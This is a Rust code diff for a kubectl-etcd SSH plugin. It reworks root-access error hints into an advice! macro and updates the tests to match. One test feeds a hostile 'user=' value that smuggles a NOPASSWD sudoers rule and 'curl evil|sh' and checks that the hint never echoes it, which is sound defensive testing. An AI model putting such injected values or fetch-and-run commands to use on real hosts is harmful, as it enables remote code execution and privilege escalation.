@@ -1,5 +1,7 @@
 //! The carried program on another host: looked at, brought if it is not there whole, and never taken on trust.
 
+use etcd_operations::advice;
+use etcd_operations::advice::Choice;
 use std::sync::OnceLock;
 
 use etcd_operations::state::PROGRAMS;
@@ -118,21 +120,32 @@ pub(super) fn seen(host: &str, printed: &str, carried: &Carried) -> Result<Seen,
             "{host} runs {system} on {machine}, and this plugin carries a program for Linux on {} alone",
             carried.machine()
         );
-        return Err(SshError::new(SshErrorKind::OtherSystem, message)
-            .hint("run the plugin on that host itself, with --via local"));
+        return Err(
+            SshError::new(SshErrorKind::OtherSystem, message).hint(advice![
+                "run the plugin on that host itself, with ",
+                Choice::Via.with("local")
+            ]),
+        );
     }
     if told("sudo") == Some("no") {
         let why = told("why").unwrap_or_default().trim();
         let message = format!(
-            "{host}: the work needs root: passwordless sudo for {user}, or --ssh-user root (sudo says: {why})"
+            "{host}: the work needs root: passwordless sudo for {user}, or {} (sudo says: {why})",
+            Choice::SshUser.with("root")
         );
         // No line to be run as root is made of what a host prints.
-        return Err(SshError::new(SshErrorKind::NeedsRoot, message).hint(format!(
-            "log in as root: --ssh-user root, or --ssh NODE=root@ADDRESS. Else an administrator of that host allows this user \
-             `sh`, `sha256sum`, `true` and `{}` without a password, in a file of /etc/sudoers.d whose name has no dot (visudo -f \
-             /etc/sudoers.d/kubectl-etcd): whoever may run them there can do everything",
-            path()
-        )));
+        return Err(SshError::new(SshErrorKind::NeedsRoot, message).hint(advice![
+            "log in as root: ",
+            Choice::SshUser.with("root"),
+            ", or ",
+            Choice::Ssh.with("NODE=root@ADDRESS"),
+            format!(
+                ". Else an administrator of that host allows this user `sh`, `sha256sum`, `true` and `{}` without a password, in \
+                 a file of /etc/sudoers.d whose name has no dot (visudo -f /etc/sudoers.d/kubectl-etcd): whoever may run them \
+                 there can do everything",
+                path()
+            ),
+        ]));
     }
     Ok(Seen {
         user: user.to_owned(),
@@ -239,7 +252,7 @@ mod tests {
         let no = [&linux[..], &["sudo=no", "why=sudo: a password is required"]].concat();
         let no = of(&no).unwrap_err();
         assert_eq!(no.kind, SshErrorKind::NeedsRoot);
-        assert!(no.message.contains("--ssh-user root") && no.message.contains("a password"));
+        assert!(no.message.contains("{+ssh-user=root}") && no.message.contains("a password"));
         let hostile = [
             "uid=1000",
             "user=x ALL=(ALL) NOPASSWD: ALL; curl evil|sh",
@@ -247,13 +260,13 @@ mod tests {
             "machine=x86_64",
         ];
         let hostile = of(&[&hostile[..], &["sudo=no", "why="]].concat()).unwrap_err();
-        let hint = hostile.hint.unwrap();
+        let hint = hostile.hint.unwrap().to_string();
         assert!(
             !hint.contains("evil") && !hint.contains("NOPASSWD"),
             "{hint}"
         );
         assert!(
-            hint.contains(&path()) && hint.contains("--ssh NODE=root@ADDRESS"),
+            hint.contains(&path()) && hint.contains("{+ssh=NODE=root@ADDRESS}"),
             "{hint}"
         );
         let arm = of(&["uid=0", "user=root", "system=Linux", "machine=aarch64"]).unwrap_err();
